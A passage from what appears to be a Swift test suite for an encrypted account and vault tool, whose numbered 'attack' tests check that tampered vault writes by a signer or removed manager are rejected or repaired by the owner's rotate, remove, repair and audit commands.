        return RuleDefinition(field: .url, category: .neutral, seen: false, value: try BoundedBytes(value))
      }
    },
  ]

  @Test("attack 21: what a signer writes stops no root act. R-12.7-9, R-12.5-8, R-12.9-1", arguments: stops)
  func stopped(_ stop: Stop) throws {
    let world = try AttackWorld()
    try world.record("agent", 60_000)
    try world.owner("account", "rotate", "owner")
    try world.write(as: "ben", state: stop.state, stop.edit)
    let open = ["account", "open", "owner"] + world.password
    let opened = try world.run(open, status: stop.isAside ? 1 : 0).error
    #expect(opened.contains(stop.code.rawValue) && opened.contains("--newest"))
    #expect(opened.contains("does not open") == stop.isAside)
    let remove = ["account", "person", "remove", "owner", "--person", try world.benID, "--keep-others"]
    #expect(try world.run(remove + world.password, status: 1).error.contains("approval_required"))
    if stop.isAside {
      let rotate = ["account", "rotate", "owner", "--newest"] + world.password
      #expect(try world.run(rotate, status: 1).error.contains("unsettled"))
    }
    try world.run(remove + ["--newest"] + world.password)
    // All ends are well, and nothing of before is lost.
    #expect(try world.owner("account", "open", "owner").error.isEmpty)
    for name in ["agent", "laptop"] { try world.run(["agent", "accept", name]) }
    try world.record("agent", 60_000)
    let audit = try world.run(["batch", "audit", "owner"] + world.password).output
    #expect(audit.contains("2 batches counted, 0 findings"))
    try world.owner("account", "rotate", "owner")
    try world.owner("account", "open", "fresh", "--service", "service", "--login", "l")
    try world.run(["account", "open", "ben"] + world.benPassword, status: 1)
  }

  /// Definitions of which no RuleSet is made, and what says so.
  struct Definitions: Sendable, CustomTestStringConvertible {
    let testDescription: String
    let code: ErrorCode
    let values: @Sendable () -> [[UInt8]]
  }

  static let definitions = [
    Definitions(testDescription: "a RuleSet beyond its limit", code: .limitReached) {
      (0..<4_080).map { Array("\(10_000 + $0)".utf8) + [UInt8](repeating: 97, count: 2_043) }
    },
    Definitions(testDescription: "a value that is no text", code: .valueNotUTF8) { [[0xff]] },
  ]

  @Test("attack 21: what a signer has filled stops no root act. R-12.5-7, R-12.9-10", arguments: definitions)
  func filled(_ definitions: Definitions) throws {
    let world = try AttackWorld()
    try world.write(as: "ben") { vault in
      vault.rules = try definitions.values().map {
        RuleDefinition(field: .url, category: .neutral, seen: true, value: try BoundedBytes($0))
      }
      for number in vault.persons.count..<Limit.personsMax {
        let modulus = try Modulus([UInt8](repeating: UInt8(number), count: 256))
        try vault.set(
          Person(
            personID: AgentID(modulus: modulus, verifyKey: .zero), role: .manager, status: .removed,
            modulus: modulus, verifyKey: .zero, keys: .zero, label: BoundedBytes([])))
      }
    }
    let rotate = ["account", "rotate", "owner"] + world.password
    #expect(try world.run(rotate, status: 2).error.contains(definitions.code.rawValue))
    let remove = ["account", "person", "remove", "owner", "--person", try world.benID, "--keep-others"]
    #expect(try world.run(remove + world.password).error.contains("has no rules of this account"))
    try world.owner("account", "person", "add", "owner", "--approve", try world.join("mal"))
    let persons = try world.session(of: "mal").vault.persons
    #expect(persons.count == 2 && persons.allSatisfy { $0.status == .granted })
    // The owner's rules are there again once they are replaced.
    let rule = #"{"field":"application_name","category":"productive","value":"Ledger"}"#
    _ = try world.folder.write(Array("\(rule)\n".utf8), to: "rules")
    try world.owner("account", "rules", "owner", "--set", world.folder.path("rules"))
    #expect(try world.owner("account", "rotate", "owner").error.isEmpty)
  }

  @Test("attack 22: marks that no batch comes up to are counted anew. R-16.2-8")
  func poisonedMarks() throws {
    let world = try AttackWorld()
    let agent = try world.id(of: "agent")
    for duration in [60_000, 120_000] { try world.record("agent", duration) }
    try world.write(as: "ben") { vault in
      var member = try #require(vault.members.first { "\($0.agentID)" == agent })
      (member.auditedSequence, member.auditedHash) = (.max, Hash(sha256: [1]))
      (member.auditedGeneration, member.auditedState) = (.max, .max)
      try vault.set(member)
    }
    #expect(try world.audit("owner").output.contains("0 batches counted"))
    try world.owner("account", "repair", "owner", "--keep-others", "--recount", agent)
    try world.run(["agent", "accept", "agent"])
    try world.record("agent", 60_000)
    let audit = try world.run(["batch", "audit", "owner"] + world.password).output
    #expect(audit.contains("4.0 min") && audit.contains("3 batches counted, 0 findings"))
  }

  @Test("attack 23: what retention is said to have taken hides no batch that is there. R-16.5-5")
  func saidToBeGone() throws {
    let world = try AttackWorld()
    let agent = try world.id(of: "agent")
    for duration in [60_000, 120_000] { try world.record("agent", duration) }
    #expect(try world.audit("owner", status: 0).output.contains("2 batches counted, 0 findings"))
    try world.write(as: "ben") { vault in
      var member = try #require(vault.members.first { "\($0.agentID)" == agent })
      try #require(member.auditedSequence == 2)
      (member.keptSequence, member.keptHash) = (member.auditedSequence, member.auditedHash)
      try vault.set(member)
    }
    let audit = try world.audit("owner", status: 0).output
    #expect(audit.contains("3.0 min") && audit.contains("2 batches counted, 0 findings"))
    #expect(!audit.contains("erased"))
  }

  @Test(
    "attack 21: what a signer writes lists nobody again whom another device of the owner's removed. R-12.9-1, R-12.7-11"
  )
  func listedAgain() throws {
    let world = try AttackWorld()
    try world.owner("account", "person", "add", "owner", "--approve", try world.join("mal"))
    try world.run(["account", "open", "mal", "--newest", "--password-file", "mal.password"])
    try world.owner("account", "open", "desk", "--service", "service", "--login", "l", "--newest")
    // The desk is away while the manager is removed; then another one writes what does not open.
    try world.owner("account", "person", "remove", "owner", "--person", try world.benID, "--keep-others")
    try world.run(["agent", "accept", "agent"])
    try world.record("agent", 60_000)
    try world.write(as: "mal", state: .rotated) { _ in }
    let opened = try world.run(["account", "open", "desk"] + world.password, status: 1)
    #expect(opened.error.contains("does not open"))
    try world.owner("account", "repair", "desk", "--keep-others", "--newest")
    let state = try AccountState(parsing: world.folder.read("service/account/state.ek"))
    let benID = try world.benID
    #expect(state.signers.count == 2 && !state.signers.contains { "\($0.personID)" == benID })
    // The device that was ahead follows, and says that the line is another one.
    let followed = try world.owner("account", "open", "owner").error
    #expect(followed.contains("state_fork") && followed.contains("lacks 1 key of past epochs"))
    // Nobody else has the key of the line that ended: it comes back with the next act, and what was sent counts.
    #expect(try world.audit("desk").output.contains("0 batches counted"))
    try world.owner("account", "rotate", "owner", "--newest")
    for name in ["agent", "laptop"] { try world.run(["agent", "accept", name]) }
    #expect(try !world.owner("account", "open", "owner").error.contains("past epochs"))
    let audit = try world.audit("owner").output
    #expect(audit.contains("1.0 min") && audit.contains("1 batch counted"))
  }
}
